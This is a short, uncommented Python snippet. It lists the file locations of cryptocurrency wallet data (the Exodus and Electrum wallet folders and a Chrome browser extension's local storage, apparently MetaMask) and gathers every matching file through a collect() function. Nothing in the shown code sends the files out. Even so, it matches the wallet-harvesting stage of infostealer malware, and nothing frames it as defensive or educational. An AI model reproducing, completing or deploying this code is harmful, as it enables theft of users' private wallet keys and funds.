import glob, os

HOME = os.path.expanduser("~")
WALLETS = [
    HOME + "/Library/Application Support/Exodus/exodus.wallet/*",
    HOME + "/.electrum/wallets/*",
    HOME + "/Library/Application Support/Google/Chrome/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn/*",
]

def collect():
    found = []
    for pattern in WALLETS:
        found += glob.glob(pattern)
    return found
